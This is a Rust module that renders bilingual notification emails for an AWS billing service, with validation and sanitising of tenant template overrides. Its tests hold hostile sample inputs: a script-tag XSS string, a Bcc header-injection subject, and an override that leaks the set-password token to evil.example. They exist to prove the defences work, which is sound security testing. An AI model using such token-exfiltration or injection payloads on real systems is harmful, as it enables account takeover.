//! Email templates: subject, HTML and text per event type, in English and Simplified Chinese.
//! Built-ins are compiled once, in strict mode (an unknown variable is an error, not an empty
//! string); HTML is escaped, subject and text are not. Tenant overrides are checked the same way
//! against sample data before they are stored.

use std::sync::LazyLock;

use handlebars::Handlebars;
use serde_json::{Value, json};

use crate::error::{AppError, AppResult};
use crate::notify::outbox;

/// A template trio.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Source {
    pub subject: String,
    pub html: String,
    pub text: String,
}

/// A rendered email.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    pub subject: String,
    pub html: String,
    pub text: String,
    /// Files sent with it (an issued invoice's PDF), added by the dispatcher after rendering.
    pub attachments: Vec<Attachment>,
}

/// A file attached to a mail.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attachment {
    pub file_name: String,
    pub content_type: String,
    pub content: Vec<u8>,
}

/// A one-time link the server adds to a mail after rendering (never a template variable).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ActionLink {
    pub label: &'static str,
    pub url: String,
}

/// The action link of an event type in a locale, for a URL the server built; `None` for event
/// types whose mail carries no link.
pub fn action_link(event_type: &str, locale: &str, url: String) -> Option<ActionLink> {
    let label = match (event_type, locale) {
        (outbox::USER_INVITED, "zh-CN") => "设置密码",
        (outbox::USER_INVITED, _) => "Set your password",
        _ => return None,
    };
    Some(ActionLink { label, url })
}

/// Adds the action after the body: in text before the signature delimiter ("-- ") when there is
/// one, else at the end; in HTML before `</body>` when there is one, else at the end.
fn with_action(mut mail: Rendered, action: Option<&ActionLink>) -> Rendered {
    let Some(action) = action else { return mail };
    let text_block = format!("{}:\n{}\n", action.label, action.url);
    mail.text = match mail.text.rfind("\n-- \n") {
        Some(at) => format!("{}\n\n{text_block}{}", mail.text[..at].trim_end(), &mail.text[at..]),
        None => format!("{}\n\n{text_block}", mail.text.trim_end()),
    };
    let url = handlebars::html_escape(&action.url);
    let html_block = format!("<p><a href=\"{url}\">{}</a></p>\n<p style=\"font-size:smaller\">{url}</p>\n", handlebars::html_escape(action.label));
    mail.html = match mail.html.to_ascii_lowercase().rfind("</body>") {
        Some(at) => format!("{}{html_block}{}", &mail.html[..at], &mail.html[at..]),
        None => format!("{}\n{html_block}", mail.html),
    };
    mail
}

/// A tenant's HTML as a safe fragment in our own document: no scripts, styles, comments or
/// unclosed elements that could hide or restyle what the server adds after it.
fn sanitized_document(tenant_html: &str) -> String {
    format!("<!doctype html>\n<html><body>\n{}\n</body></html>\n", ammonia::clean(tenant_html))
}

/// (event type, locale, subject, body). The body becomes both the text and, escaped, the HTML.
const BUILTIN: &[(&str, &str, &str, &str)] = &[
    (outbox::ACCOUNT_CREATED, "en", "AWS account {{data.accountName}} ({{data.accountId}}) created", "The AWS account {{data.accountName}} ({{data.accountId}}, {{data.email}}) was created in the organization of payer {{payerName}} ({{payerAccountId}})."),
    (outbox::ACCOUNT_CREATED, "zh-CN", "AWS 账号 {{data.accountName}}（{{data.accountId}}）已创建", "AWS 账号 {{data.accountName}}（{{data.accountId}}，{{data.email}}）已在付款账号 {{payerName}}（{{payerAccountId}}）的组织中创建。"),
    (outbox::ACCOUNT_CREATE_FAILED, "en", "Creating AWS account {{data.accountName}} failed", "Creating the AWS account {{data.accountName}} ({{data.email}}) under payer {{payerName}} failed: {{data.reason}}"),
    (outbox::ACCOUNT_CREATE_FAILED, "zh-CN", "创建 AWS 账号 {{data.accountName}} 失败", "在付款账号 {{payerName}} 下创建 AWS 账号 {{data.accountName}}（{{data.email}}）失败：{{data.reason}}"),
    (outbox::ACCOUNT_INVITED, "en", "AWS account {{data.target}} invited", "The AWS account {{data.target}} was invited to join the organization of payer {{payerName}} by {{data.invitedBy}}."),
    (outbox::ACCOUNT_INVITED, "zh-CN", "已邀请 AWS 账号 {{data.target}}", "{{data.invitedBy}} 已邀请 AWS 账号 {{data.target}} 加入付款账号 {{payerName}} 的组织。"),
    (outbox::INVITATION_ACCEPTED, "en", "AWS account {{data.target}} joined", "The AWS account {{data.target}} accepted the invitation and joined the organization of payer {{payerName}}."),
    (outbox::INVITATION_ACCEPTED, "zh-CN", "AWS 账号 {{data.target}} 已加入", "AWS 账号 {{data.target}} 已接受邀请，加入付款账号 {{payerName}} 的组织。"),
    (outbox::ACCOUNT_CLOSED, "en", "AWS account {{data.accountName}} ({{data.accountId}}) closed", "The AWS account {{data.accountName}} ({{data.accountId}}) of payer {{payerName}} was closed by {{data.closedBy}}."),
    (outbox::ACCOUNT_CLOSED, "zh-CN", "AWS 账号 {{data.accountName}}（{{data.accountId}}）已关闭", "付款账号 {{payerName}} 的 AWS 账号 {{data.accountName}}（{{data.accountId}}）已由 {{data.closedBy}} 关闭。"),
    (outbox::POLICY_ATTACHED, "en", "Policy {{data.policyName}} attached to {{data.targetId}}", "The service control policy {{data.policyName}} ({{data.policyId}}) was attached to {{data.targetId}} in the organization of payer {{payerName}} by {{data.by}}."),
    (outbox::POLICY_ATTACHED, "zh-CN", "策略 {{data.policyName}} 已附加到 {{data.targetId}}", "{{data.by}} 已将服务控制策略 {{data.policyName}}（{{data.policyId}}）附加到付款账号 {{payerName}} 组织中的 {{data.targetId}}。"),
    (outbox::POLICY_DETACHED, "en", "Policy {{data.policyName}} detached from {{data.targetId}}", "The service control policy {{data.policyName}} ({{data.policyId}}) was detached from {{data.targetId}} in the organization of payer {{payerName}} by {{data.by}}."),
    (outbox::POLICY_DETACHED, "zh-CN", "策略 {{data.policyName}} 已从 {{data.targetId}} 分离", "{{data.by}} 已将服务控制策略 {{data.policyName}}（{{data.policyId}}）从付款账号 {{payerName}} 组织中的 {{data.targetId}} 分离。"),
    (outbox::PAYER_CONNECTION_FAILED, "en", "Payer {{payerName}} cannot be reached", "Partner Billing could not assume the role of payer {{payerName}} ({{payerAccountId}}): {{data.reason}}"),
    (outbox::PAYER_CONNECTION_FAILED, "zh-CN", "无法连接付款账号 {{payerName}}", "Partner Billing 无法代入付款账号 {{payerName}}（{{payerAccountId}}）的角色：{{data.reason}}"),
    (outbox::USER_INVITED, "en", "You have been invited to Partner Billing", "{{data.invitedBy}} invited you to Partner Billing. Set your password with the link below; it works once and expires in 72 hours."),
    (outbox::USER_INVITED, "zh-CN", "您已受邀加入 Partner Billing", "{{data.invitedBy}} 邀请您加入 Partner Billing。请使用下方链接设置密码；该链接仅可使用一次，72 小时内有效。"),
    (outbox::PASSWORD_CHANGED, "en", "Your Partner Billing password was changed", "The password of {{data.email}} was changed. If this was not you, contact your administrator."),
    (outbox::PASSWORD_CHANGED, "zh-CN", "您的 Partner Billing 密码已更改", "{{data.email}} 的密码已更改。如非本人操作，请联系管理员。"),
    (outbox::SERVICE_NOTICE, "en", "{{data.subject}}", "{{data.body}}"),
    (outbox::SERVICE_NOTICE, "zh-CN", "{{data.subject}}", "{{data.body}}"),
    (outbox::INVOICE_ISSUED, "en", "Invoice {{data.number}} from {{data.issuerName}}: {{data.total}} {{data.currency}}", "{{data.issuerName}} issued invoice {{data.number}} to {{data.customerName}} for {{data.billingPeriod}}: {{data.total}} {{data.currency}} (tax {{data.tax}}), due on {{data.dueDate}}. The invoice is attached as a PDF."),
    (outbox::INVOICE_ISSUED, "zh-CN", "{{data.issuerName}} 的发票 {{data.number}}：{{data.total}} {{data.currency}}", "{{data.issuerName}} 已向 {{data.customerName}} 开具 {{data.billingPeriod}} 的发票 {{data.number}}：{{data.total}} {{data.currency}}（税额 {{data.tax}}），到期日 {{data.dueDate}}。发票 PDF 见附件。"),
    (outbox::INVOICE_PAID, "en", "Invoice {{data.number}} paid", "Invoice {{data.number}} of {{data.total}} {{data.currency}} was marked paid on {{data.paymentDate}} (reference {{data.paymentReference}}). Thank you."),
    (outbox::INVOICE_PAID, "zh-CN", "发票 {{data.number}} 已付款", "发票 {{data.number}}（{{data.total}} {{data.currency}}）已于 {{data.paymentDate}} 登记付款（参考号 {{data.paymentReference}}）。谢谢。"),
    (outbox::INVOICE_VOIDED, "en", "Invoice {{data.number}} voided", "Invoice {{data.number}} of {{data.total}} {{data.currency}} was voided: {{data.voidReason}}. It is no longer payable."),
    (outbox::INVOICE_VOIDED, "zh-CN", "发票 {{data.number}} 已作废", "发票 {{data.number}}（{{data.total}} {{data.currency}}）已作废：{{data.voidReason}}。无需再支付。"),
    (outbox::CREDIT_NOTE_ISSUED, "en", "Credit note {{data.number}} from {{data.issuerName}}: {{data.total}} {{data.currency}}", "{{data.issuerName}} issued credit note {{data.number}} to {{data.customerName}}, correcting invoice {{data.referenceNumber}}: {{data.total}} {{data.currency}} credited. The note is attached as a PDF."),
    (outbox::CREDIT_NOTE_ISSUED, "zh-CN", "{{data.issuerName}} 的贷项通知单 {{data.number}}：{{data.total}} {{data.currency}}", "{{data.issuerName}} 已向 {{data.customerName}} 开具贷项通知单 {{data.number}}，更正发票 {{data.referenceNumber}}：贷记 {{data.total}} {{data.currency}}。通知单 PDF 见附件。"),
    (outbox::DEBIT_NOTE_ISSUED, "en", "Debit note {{data.number}} from {{data.issuerName}}: {{data.total}} {{data.currency}}", "{{data.issuerName}} issued debit note {{data.number}} to {{data.customerName}}, correcting invoice {{data.referenceNumber}}: {{data.total}} {{data.currency}} due on {{data.dueDate}}. The note is attached as a PDF."),
    (outbox::DEBIT_NOTE_ISSUED, "zh-CN", "{{data.issuerName}} 的借项通知单 {{data.number}}：{{data.total}} {{data.currency}}", "{{data.issuerName}} 已向 {{data.customerName}} 开具借项通知单 {{data.number}}，更正发票 {{data.referenceNumber}}：应付 {{data.total}} {{data.currency}}，到期日 {{data.dueDate}}。通知单 PDF 见附件。"),
    (outbox::BILLING_TRANSFER_INVITED, "en", "Billing transfer invitation sent to {{data.target}}", "{{data.invitedBy}} invited the organization of {{data.target}} to transfer its AWS bill to payer {{payerName}} ({{payerAccountId}}) from {{data.startMonth}}. The customer accepts it in the AWS console of its management account."),
    (outbox::BILLING_TRANSFER_INVITED, "zh-CN", "已向 {{data.target}} 发送账单转移邀请", "{{data.invitedBy}} 已邀请 {{data.target}} 的组织自 {{data.startMonth}} 起将其 AWS 账单转移到付款账号 {{payerName}}（{{payerAccountId}}）。客户需在其管理账号的 AWS 控制台中接受邀请。"),
    (outbox::BILLING_TRANSFER_ACCEPTED, "en", "{{data.target}} accepted the billing transfer", "The organization of {{data.target}} accepted the transfer of its AWS bill to payer {{payerName}} ({{payerAccountId}}). The transfer starts on {{data.startMonth}}-01."),
    (outbox::BILLING_TRANSFER_ACCEPTED, "zh-CN", "{{data.target}} 已接受账单转移", "{{data.target}} 的组织已接受将其 AWS 账单转移到付款账号 {{payerName}}（{{payerAccountId}}）。转移自 {{data.startMonth}}-01 起生效。"),
    (outbox::BILLING_TRANSFER_STARTED, "en", "Billing transfer of {{data.target}} started", "From {{data.startMonth}}-01, payer {{payerName}} ({{payerAccountId}}) pays the AWS bill of the organization of {{data.target}}."),
    (outbox::BILLING_TRANSFER_STARTED, "zh-CN", "{{data.target}} 的账单转移已生效", "自 {{data.startMonth}}-01 起，付款账号 {{payerName}}（{{payerAccountId}}）支付 {{data.target}} 组织的 AWS 账单。"),
    (outbox::BILLING_TRANSFER_ENDED, "en", "Billing transfer of {{data.target}} ended", "The transfer of the AWS bill of the organization of {{data.target}} to payer {{payerName}} ({{payerAccountId}}) ended{{#if data.endMonth}} on {{data.endMonth}}-01{{/if}}."),
    (outbox::BILLING_TRANSFER_ENDED, "zh-CN", "{{data.target}} 的账单转移已结束", "{{data.target}} 组织向付款账号 {{payerName}}（{{payerAccountId}}）的 AWS 账单转移已结束{{#if data.endMonth}}（{{data.endMonth}}-01）{{/if}}。"),
    (outbox::WEBHOOK_DISABLED, "en", "Webhook endpoint disabled", "The webhook endpoint {{data.url}} was disabled after {{data.failures}} failed deliveries in a row. Fix it, then enable it again."),
    (outbox::WEBHOOK_DISABLED, "zh-CN", "Webhook 端点已停用", "Webhook 端点 {{data.url}} 连续 {{data.failures}} 次投递失败，已停用。修复后请重新启用。"),
    (outbox::CONTRACT_CHANGED, "en", "Contract {{data.name}} of {{data.customerName}} was {{data.action}}", "The contract {{data.name}} of {{data.customerName}} was {{data.action}} by {{data.changedBy}}. Status: {{data.status}}. Term: {{data.startDate}} to {{#if data.endDate}}{{data.endDate}}{{else}}no end date{{/if}}, renewal {{data.renewal}}. Currency {{data.currency}}, invoice prefix {{data.invoicePrefix}}, invoices to {{data.billingEmail}}."),
    (outbox::CONTRACT_CHANGED, "zh-CN", "客户 {{data.customerName}} 的合同 {{data.name}} 已变更", "{{data.changedBy}} 已变更客户 {{data.customerName}} 的合同 {{data.name}}（{{data.action}}）。状态：{{data.status}}。期限：{{data.startDate}} 至 {{#if data.endDate}}{{data.endDate}}{{else}}无结束日期{{/if}}，续约方式 {{data.renewal}}。币种 {{data.currency}}，发票前缀 {{data.invoicePrefix}}，账单发送至 {{data.billingEmail}}。"),
];

/// The event types that send mail.
pub fn mail_event_types() -> Vec<&'static str> {
    let mut types: Vec<&'static str> = BUILTIN.iter().map(|b| b.0).collect();
    types.dedup();
    types
}

fn html_of(body: &str) -> String {
    format!("<!doctype html>\n<html><body style=\"font-family: sans-serif\">\n<p>{body}</p>\n<p style=\"color:#666\">{{{{brandingName}}}}</p>\n</body></html>\n")
}

fn text_of(body: &str) -> String {
    format!("{body}\n\n-- \n{{{{brandingName}}}}\n")
}

/// The built-in trio of one event type and locale.
pub fn builtin(event_type: &str, locale: &str) -> Option<Source> {
    BUILTIN.iter().find(|b| b.0 == event_type && b.1 == locale).map(|b| Source {
        subject: b.2.to_owned(),
        html: html_of(b.3),
        text: text_of(b.3),
    })
}

fn registries() -> (Handlebars<'static>, Handlebars<'static>) {
    let mut html = Handlebars::new();
    html.set_strict_mode(true);
    let mut plain = Handlebars::new();
    plain.set_strict_mode(true);
    plain.register_escape_fn(handlebars::no_escape);
    (html, plain)
}

struct Compiled {
    html: Handlebars<'static>,
    plain: Handlebars<'static>,
}

/// The built-ins, compiled once.
static COMPILED: LazyLock<Result<Compiled, String>> = LazyLock::new(|| {
    let (mut html, mut plain) = registries();
    for (event, locale, subject, body) in BUILTIN {
        let name = format!("{event}/{locale}");
        plain.register_template_string(&format!("{name}/subject"), *subject).map_err(|e| format!("{name} subject: {e}"))?;
        plain.register_template_string(&format!("{name}/text"), text_of(body)).map_err(|e| format!("{name} text: {e}"))?;
        html.register_template_string(&format!("{name}/html"), html_of(body)).map_err(|e| format!("{name} html: {e}"))?;
    }
    Ok(Compiled { html, plain })
});

/// Compiles the built-ins now (at start), so a broken one stops the server rather than a mail.
pub fn init() -> AppResult<()> {
    COMPILED.as_ref().map(|_| ()).map_err(|e| AppError::internal(anyhow::anyhow!("built-in email template: {e}")))
}

/// Renders a built-in template, then adds the action link, if any.
pub fn render_builtin(event_type: &str, locale: &str, ctx: &Value, action: Option<&ActionLink>) -> AppResult<Rendered> {
    let c = COMPILED.as_ref().map_err(|e| AppError::internal(anyhow::anyhow!("built-in email template: {e}")))?;
    let name = format!("{event_type}/{locale}");
    let err = |e: handlebars::RenderError| AppError::internal(anyhow::anyhow!("rendering {name}: {e}"));
    let mail = Rendered {
        subject: one_line(&c.plain.render(&format!("{name}/subject"), ctx).map_err(err)?),
        html: c.html.render(&format!("{name}/html"), ctx).map_err(err)?,
        text: c.plain.render(&format!("{name}/text"), ctx).map_err(err)?,
        attachments: Vec::new(),
    };
    Ok(with_action(mail, action))
}

/// Compiles and renders a trio (a tenant override), sanitises its HTML and adds the action link;
/// the error names the part that failed.
pub fn render_source(src: &Source, ctx: &Value, action: Option<&ActionLink>) -> Result<Rendered, (&'static str, String)> {
    let (html, plain) = registries();
    let subject = plain.render_template(&src.subject, ctx).map_err(|e| ("subject", e.to_string()))?;
    let text = plain.render_template(&src.text, ctx).map_err(|e| ("text", e.to_string()))?;
    let html = html.render_template(&src.html, ctx).map_err(|e| ("html", e.to_string()))?;
    Ok(with_action(Rendered { subject: one_line(&subject), html: sanitized_document(&html), text, attachments: Vec::new() }, action))
}

/// Checks an override: it must compile and render the sample data of its event type (so an
/// unknown variable is refused).
pub fn validate(event_type: &str, locale: &str, src: &Source) -> AppResult<Rendered> {
    for (field, value, max) in [("subject", &src.subject, 500), ("html", &src.html, 100_000), ("text", &src.text, 100_000)] {
        if value.trim().is_empty() || value.len() > max {
            return Err(AppError::invalid(field, format!("must be 1 to {max} characters")));
        }
    }
    let sample_action = action_link(event_type, locale, format!("{SAMPLE_PUBLIC_URL}/set-password?token=sample-one-time-token"));
    render_source(src, &sample_context(event_type, locale), sample_action.as_ref())
        .map_err(|(field, e)| AppError::invalid(field, format!("does not render: {e}")))
}

const SAMPLE_PUBLIC_URL: &str = "https://billing.example.com";

/// Header folding would turn a newline in a subject into a header injection; keep one line.
fn one_line(s: &str) -> String {
    s.split(['\r', '\n']).map(str::trim).filter(|p| !p.is_empty()).collect::<Vec<_>>().join(" ")
}

/// The variables a template sees.
pub fn context(event_type: &str, event_id: uuid::Uuid, time: chrono::DateTime<chrono::Utc>, payer: Option<(&str, &str)>, tenant_name: &str, public_url: &str, data: Value) -> Value {
    json!({
        "eventType": event_type,
        "eventId": event_id.to_string(),
        "time": time.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        "payerName": payer.map_or("", |p| p.0),
        "payerAccountId": payer.map_or("", |p| p.1),
        "tenantName": tenant_name,
        "publicUrl": public_url,
        "data": data,
    })
}

/// Sample data for previews and for checking overrides.
pub fn sample_context(event_type: &str, _locale: &str) -> Value {
    let data = match event_type {
        outbox::ACCOUNT_CREATED => json!({ "accountId": "012345678901", "accountName": "Dev account", "email": "dev@example.com", "ouId": "ou-ab12-cd34ef56", "payerAccountId": "109876543210" }),
        outbox::ACCOUNT_CREATE_FAILED => json!({ "email": "dev@example.com", "accountName": "Dev account", "reason": "EMAIL_ALREADY_EXISTS", "requestId": "car-0123" }),
        outbox::ACCOUNT_INVITED => json!({ "handshakeId": "h-0123456789", "target": "012345678901", "notes": "welcome", "invitedBy": "ops@partner.example" }),
        outbox::INVITATION_ACCEPTED => json!({ "handshakeId": "h-0123456789", "target": "012345678901" }),
        outbox::ACCOUNT_CLOSED => json!({ "accountId": "012345678901", "accountName": "Dev account", "email": "dev@example.com", "closedBy": "ops@partner.example" }),
        outbox::POLICY_ATTACHED | outbox::POLICY_DETACHED => json!({ "policyId": "p-0123abcd", "policyName": "Deny leaving", "targetId": "012345678901", "by": "ops@partner.example" }),
        outbox::PAYER_CONNECTION_FAILED => json!({ "reason": "AccessDenied" }),
        outbox::USER_INVITED => json!({ "email": "new@partner.example", "invitedBy": "admin@partner.example" }),
        outbox::PASSWORD_CHANGED => json!({ "email": "user@partner.example" }),
        outbox::SERVICE_NOTICE => json!({ "accountId": "012345678901", "accountName": "Dev account", "email": "dev@example.com", "subject": "Planned maintenance", "body": "We will rotate keys on Friday.", "by": "ops@partner.example" }),
        outbox::CONTRACT_CHANGED => json!({ "action": "updated", "contractId": "0190e1c2-0000-7000-8000-000000000001", "name": "Managed AWS 2027", "customerTenantId": "0190e1c2-0000-7000-8000-000000000002", "customerName": "Acme Corp", "status": "ACTIVE", "startDate": "2027-01-01", "endDate": "2027-12-31", "renewal": "FIXED_TERM", "currency": "USD", "invoicePrefix": "ACME", "billingEmail": "billing@acme.example", "contractChangeEmail": "contracts@acme.example", "changedBy": "admin@partner.example" }),
        outbox::INVOICE_ISSUED | outbox::INVOICE_PAID | outbox::INVOICE_VOIDED | outbox::CREDIT_NOTE_ISSUED | outbox::DEBIT_NOTE_ISSUED => json!({
            "invoiceId": "0190e1c2-0000-7000-8000-000000000003", "kind": "INVOICE", "number": "ACME-2027-000042", "referenceNumber": "ACME-2027-000041",
            "customerTenantId": "0190e1c2-0000-7000-8000-000000000002", "customerName": "Acme Corp", "issuerName": "Example partner", "billingEmail": "billing@acme.example",
            "billingPeriod": "2027-01", "currency": "EUR", "subtotal": "1,472.70", "tax": "294.54", "total": "1,767.24", "issueDate": "2027-02-05", "dueDate": "2027-02-19",
            "paymentDate": "2027-02-12", "paymentReference": "SEPA-2027-118", "voidReason": "Billed to the wrong entity", "language": "en", "contentHash": "0".repeat(64),
        }),
        outbox::BILLING_TRANSFER_INVITED | outbox::BILLING_TRANSFER_ACCEPTED | outbox::BILLING_TRANSFER_STARTED | outbox::BILLING_TRANSFER_ENDED => json!({
            "billingTransferId": "0190e1c2-0000-7000-8000-000000000004", "target": "012345678901", "startMonth": "2027-01", "endMonth": "2027-12",
            "handshakeId": "h-0123456789", "transferId": "rt-0123456789", "notes": "welcome", "invitedBy": "admin@partner.example",
        }),
        outbox::WEBHOOK_DISABLED => json!({ "endpointId": "0190e1c2-0000-7000-8000-000000000000", "url": "https://hooks.example.com/pb", "failures": 10, "reason": "HTTP 500" }),
        _ => json!({}),
    };
    let mut ctx = context(event_type, uuid::Uuid::nil(), chrono::Utc::now(), Some(("Example payer", "109876543210")), "Example partner", SAMPLE_PUBLIC_URL, data);
    ctx["brandingName"] = json!(crate::notify::tenant_settings::DEFAULT_NAME);
    ctx
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_builtin_compiles_and_renders_its_sample_in_both_locales() {
        init().unwrap();
        for event in mail_event_types() {
            for locale in crate::notify::LOCALES {
                let r = render_builtin(event, locale, &sample_context(event, locale), None).unwrap();
                assert!(!r.subject.is_empty() && r.text.contains("Partner Billing"), "{event}/{locale}");
                assert!(builtin(event, locale).is_some());
            }
        }
    }

    #[test]
    fn html_is_escaped_text_is_not_and_subjects_stay_on_one_line() {
        let mut ctx = sample_context(outbox::SERVICE_NOTICE, "en");
        ctx["data"]["body"] = json!("<script>alert(1)</script> & more");
        ctx["data"]["subject"] = json!("Hi\r\nBcc: victim@example.com");
        let r = render_builtin(outbox::SERVICE_NOTICE, "en", &ctx, None).unwrap();
        assert!(r.html.contains("&lt;script&gt;") && !r.html.contains("<script>"));
        assert!(r.text.contains("<script>alert(1)</script> & more"));
        assert_eq!(r.subject, "Hi Bcc: victim@example.com");
    }

    #[test]
    fn an_invitation_override_cannot_read_drop_or_redirect_the_set_password_link() {
        // The attack: a customer admin's override sending the token to another host.
        let attack = Source {
            subject: "Welcome".into(),
            html: "<a href=\"https://evil.example/?t={{data.token}}\">Set password</a>".into(),
            text: "Go to https://evil.example/?t={{data.token}}".into(),
        };
        let refused = validate(outbox::USER_INVITED, "en", &attack);
        assert!(matches!(refused, Err(AppError::Validation { .. })), "{refused:?}");
        // Nor may it place the server's link: templates never see it.
        let placed = Source { subject: "Welcome".into(), html: "<a href=\"https://evil.example/#{{action.url}}\">x</a>".into(), text: "{{publicUrl}}".into() };
        assert!(validate(outbox::USER_INVITED, "en", &placed).is_err());
        // An override that tries to hide what follows it: the link is still there, visible.
        let hiding = Source {
            subject: "Welcome".into(),
            html: "<p>Hello</p><div style=\"display:none\"><!-- <script>x</script>".into(),
            text: "Hello".into(),
        };
        let link = action_link(outbox::USER_INVITED, "en", "https://billing.partner.example/set-password?token=pbs_secret".into()).unwrap();
        let r = render_source(&hiding, &sample_context(outbox::USER_INVITED, "en"), Some(&link)).unwrap();
        assert!(r.text.ends_with("Set your password:\nhttps://billing.partner.example/set-password?token=pbs_secret\n"), "{}", r.text);
        // handlebars' escaping writes `=` as `&#x3D;`, which HTML decodes back.
        assert!(r.html.replace("&#x3D;", "=").contains("<a href=\"https://billing.partner.example/set-password?token=pbs_secret\">Set your password</a>"), "{}", r.html);
        assert!(!r.html.contains("display:none") && !r.html.contains("<!--") && !r.html.contains("<script"), "{}", r.html);
        // The context a template renders with holds no secret at all.
        let ctx = sample_context(outbox::USER_INVITED, "en");
        assert!(ctx["data"].get("token").is_none() && ctx.get("action").is_none());
        // The built-in puts the link before its signature, in both locales.
        let r = render_builtin(outbox::USER_INVITED, "zh-CN", &ctx, Some(&action_link(outbox::USER_INVITED, "zh-CN", "https://b.example/set-password?token=t".into()).unwrap())).unwrap();
        let at_link = r.text.find("设置密码:\nhttps://b.example/set-password?token=t").unwrap();
        assert!(at_link < r.text.find("\n-- \n").unwrap(), "{}", r.text);
    }

    #[test]
    fn overrides_with_syntax_errors_or_unknown_variables_are_refused() {
        let ok = Source { subject: "New: {{data.accountId}}".into(), html: "<b>{{data.email}}</b>".into(), text: "{{data.email}}".into() };
        assert!(validate(outbox::ACCOUNT_CREATED, "en", &ok).is_ok());
        let broken = Source { subject: "{{#if data.accountId}}unclosed".into(), ..ok.clone() };
        assert!(matches!(validate(outbox::ACCOUNT_CREATED, "en", &broken), Err(AppError::Validation { field, .. }) if field.as_deref() == Some("subject")));
        let unknown = Source { text: "{{data.password}}".into(), ..ok };
        assert!(matches!(validate(outbox::ACCOUNT_CREATED, "en", &unknown), Err(AppError::Validation { field, .. }) if field.as_deref() == Some("text")));
    }
}
